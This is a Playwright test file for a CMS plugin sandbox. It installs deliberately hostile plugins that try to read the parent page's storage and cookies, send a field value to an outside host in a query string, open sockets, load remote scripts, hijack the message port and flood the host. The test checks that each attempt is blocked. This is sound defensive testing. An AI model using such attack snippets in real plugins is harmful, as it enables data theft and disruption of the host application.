import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import { ownAddress, ownServer } from './ownServer.ts'
import { field, people, refuseNothing, saveAndStay } from './studio.ts'

refuseNothing()

test.use({ baseURL: ownAddress })

const declared = (id: string, component: string, more = '') => `import * as react from 'react'
import { useText } from '@fieldhouse/plugin'
import { greeting } from './parts/greeting.js'
  export default { kind: 'interface', id: '${id}', name: '${id}:name', icon: 'box', types: ['string'], options: {}, ${more}
  messages: { 'en-US': { '${id}:name': 'The ${id}', '${id}:hello': 'Hello {who}' } },
  load: async () => ({ default: ${component} }) }
`

/** What a plugin outside of a sandbox can do, and what becomes of it: the name of the error. */
const attacks = `async props => {
  const tries = {
    page: () => parent.document.title,
    storage: () => parent.localStorage.length,
    cookies: () => document.cookie,
    studio: () => fetch('/users/me'),
    others: () => fetch('https://example.com/?secret=' + props.value),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket('wss://example.com')
      Object.assign(socket, { onopen: resolve, onerror: () => reject(new TypeError('blocked')) })
    }),
    worker: () => new Worker('/admin/assets/none.js'),
    script: () => import('https://example.com/none.js'),
    top: () => { top.location.href = 'https://example.com' },
    popup: () => { if (window.open('https://example.com') === null) throw new TypeError('blocked') },
  }
  const outcomes = {}
  for (const [name, attempt] of Object.entries(tries))
    try { await attempt(); outcomes[name] = 'succeeded' } catch (cause) { outcomes[name] = cause.name }
  return JSON.stringify({ ...outcomes, kept: localStorage.getItem('fieldhouse.signed-in'), item: Object.keys(props.item) })
}`

const spy = `props => {
  const text = useText()
  const [outcomes, setOutcomes] = react.useState('')
  react.useEffect(() => { (${attacks})(props).then(setOutcomes) }, [])
  return react.createElement('div', { style: { blockSize: 200 } },
    react.createElement('link', { rel: 'stylesheet', href: new URL('./parts/spy.css', import.meta.url).href, precedence: 'default' }),
    react.createElement('input', { id: props.id, 'aria-describedby': props.describedBy, value: props.value ?? '',
      readOnly: !props.access.allowed, onChange: event => props.change({ op: 'set', value: event.target.value || null }) }),
    react.createElement('p', { id: 'greeting' }, text('spy:hello', { who: greeting })),
    react.createElement('output', null, outcomes))
}`

/** Gets hold of the port through which the frame talks to the page. */
const takesPort = `const post = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (...message) { if (message[0].type === 'declared') globalThis.port = this
  return post.apply(this, message) }
`
const once = (statement: string) => `props => { react.useEffect(() => { ${statement} }, []); return 'drawn' }`

/** The code of each plugin, and what its field shows in addition to the plain value. */
const hostile: Readonly<Record<string, readonly [code: string, shown: string]>> = {
  floods: [
    takesPort +
      declared(
        'floods',
        once("setInterval(() => { for (let n = 0; n < 50; n++) port.postMessage({ type: 'height', pixels: n }) }, 1)"),
      ),
    'stopped working',
  ],
  babbles: [takesPort + declared('babbles', once("port.postMessage({ type: 'explode' })")), 'stopped working'],
  leaves: [declared('leaves', once("location.href = '/server/ping'")), 'stopped working'],
  'sends-functions': [
    declared('sends-functions', once("props.change({ op: 'set', value: () => 1 })")),
    'stopped working',
  ],
  'sends-objects': [
    declared('sends-objects', once("props.change({ op: 'set', value: { a: 1 } })")),
    'expected a string',
  ],
  throws: [declared('throws', "() => { throw new Error('Cannot draw') }"), 'stopped working'],
  'changes-for-ever': [
    takesPort +
      declared(
        'changes-for-ever',
        once(
          "setInterval(() => port.postMessage({ type: 'change', patch: { op: 'set', value: 'x' }, number: 1 }), 10)",
        ),
      ),
    'stopped',
  ],
}

const rejected: Readonly<Record<string, string>> = {
  grouped: declared('grouped', '() => null', 'presentation: true, group: true,'),
  migrating: declared('migrating', '() => null', 'version: 2, migrations: { 1: options => options },'),
  'no-code': 'export default {{',
}

const extensions = mkdtempSync(join(tmpdir(), 'fieldhouse-sandbox-'))
const server = ownServer({ EXTENSIONS_PATH: extensions })
const column = (id: string) => id.replaceAll('-', '_')
const ids = ['spy', ...Object.keys(hostile)]

function install(kind: string, id: string, code: string): void {
  const folder = join(extensions, kind, id)
  mkdirSync(join(folder, 'parts'), { recursive: true })
  writeFileSync(join(folder, 'index.js'), code)
  writeFileSync(join(folder, 'parts', 'greeting.js'), "export const greeting = 'from a part'\n")
  writeFileSync(join(folder, 'parts', 'spy.css'), '#greeting { color: rgb(1, 2, 3) }')
  writeFileSync(join(folder, 'manifest.json'), '{ "sandbox": true }')
}

test.beforeAll(async ({ request }) => {
  install('interfaces', 'spy', declared('spy', spy))
  install('displays', 'shown', declared('shown', '() => null'))
  for (const [id, [code]] of Object.entries(hostile)) install('interfaces', id, code)
  for (const [id, code] of Object.entries(rejected)) install('interfaces', id, code)
  await server.start()
  const login = await request.post('/auth/login', { data: people.admin })
  const headers = { authorization: `Bearer ${(await login.json()).data.access_token}` }
  const key = { is_primary_key: true, has_auto_increment: true }
  const fields = [
    { field: 'id', type: 'integer', meta: { hidden: true }, schema: key },
    { field: 'title', type: 'string', meta: { interface: 'text-input' }, schema: {} },
    ...ids.map(id => ({
      field: column(id),
      type: 'string',
      meta: { interface: id, note: 'A note' },
      schema: id === 'spy' ? { is_nullable: false } : {},
    })),
  ]
  const collection = { collection: 'boxes', meta: {}, schema: {}, fields }
  expect((await request.post('/collections', { data: collection, headers })).ok()).toBe(true)
  const values = Object.fromEntries(ids.map(id => [column(id), 'kept']))
  expect((await request.post('/items/boxes', { data: { title: 'Saved', ...values }, headers })).ok()).toBe(true)
})

test.afterAll(async () => {
  await server.end()
  rmSync(extensions, { recursive: true, force: true })
})

async function open(page: Page): Promise<void> {
  await page.goto('/admin/login?next=%2Fcollections%2Fboxes%2F1')
  await page.getByLabel('Email').fill(people.admin.email)
  await page.getByLabel('Password').fill(people.admin.password)
  await page.getByRole('button', { name: 'Sign in' }).click()
}

test('edits a field with a sandboxed plugin that reaches nothing else (G-04)', async ({ page, request }) => {
  await open(page)
  const frame = field(page, 'spy').frameLocator('iframe')
  await expect(frame.locator('#greeting')).toHaveText('Hello from a part')
  await expect(frame.locator('#greeting')).toHaveCSS('color', 'rgb(1, 2, 3)')
  const outcomes = JSON.parse((await frame.locator('output').filter({ hasText: 'item' }).textContent()) ?? '')
  expect(outcomes).toEqual({
    ...{ page: 'SecurityError', storage: 'SecurityError', cookies: 'SecurityError' },
    ...{ studio: 'TypeError', others: 'TypeError', socket: 'TypeError', worker: 'SecurityError' },
    ...{ script: 'TypeError', top: 'SecurityError', popup: 'TypeError', kept: null, item: ['spy'] },
  })
  const input = frame.getByRole('textbox', { name: 'Spy', description: 'A note' })
  await expect(input).toHaveValue('kept')
  await input.fill('')
  await input.pressSequentially('Typed in a frame, without waiting')
  await expect(input).toHaveValue('Typed in a frame, without waiting')
  await expect(page.locator('[data-part="save-status"]')).toHaveText('1 unsaved change')
  const box = await field(page, 'spy').locator('iframe').boundingBox()
  expect(box?.height).toBeGreaterThan(190)
  await page.locator('html').evaluate(root => root.setAttribute('data-theme', 'dark'))
  await expect(frame.locator('html')).toHaveAttribute('data-theme', 'dark')
  const saved = page.waitForResponse(
    response => response.request().method() === 'PATCH' && response.url().includes('/items/boxes/1'),
  )
  await input.press('Control+s')
  expect((await saved).ok()).toBe(true)
  const login = await request.post('/auth/login', { data: people.admin })
  const headers = { authorization: `Bearer ${(await login.json()).data.access_token}` }
  const { data } = await (await request.get('/items/boxes/1', { headers })).json()
  expect(data.spy).toBe('Typed in a frame, without waiting')

  // A problem with the value moves the focus into the frame.
  await input.fill('')
  await field(page, 'title').getByRole('textbox').click()
  await page.keyboard.press('Control+s')
  await expect(page.locator('iframe[title="Spy"]')).toBeFocused()
  await expect(input).toBeFocused()
})

test('keeps an unsaved change next to hostile sandboxed plugins, and lists why some are rejected', async ({ page }) => {
  await open(page)
  const title = field(page, 'title').getByRole('textbox')
  await title.fill('Edited')
  for (const [id, [, shown]] of Object.entries(hostile))
    await test.step(id, async () => {
      await expect.soft(field(page, column(id))).toContainText(shown)
    })
  await expect(title).toHaveValue('Edited')
  await saveAndStay(page)
  await page.goto('/admin/settings/extensions')
  const row = (name: string) => page.locator(`[data-extension="${name}"]`)
  await expect(row('interface/grouped')).toContainText('group')
  await expect(row('interface/migrating')).toContainText('migrations')
  await expect(row('display/shown')).toContainText('display')
  await expect(row('interface/no-code')).toContainText('SyntaxError')
  await expect(row('interface/spy')).toContainText('Sandbox')
  for (const id of Object.keys(hostile)) await expect.soft(row(`interface/${id}`)).toContainText('Failed earlier')
})
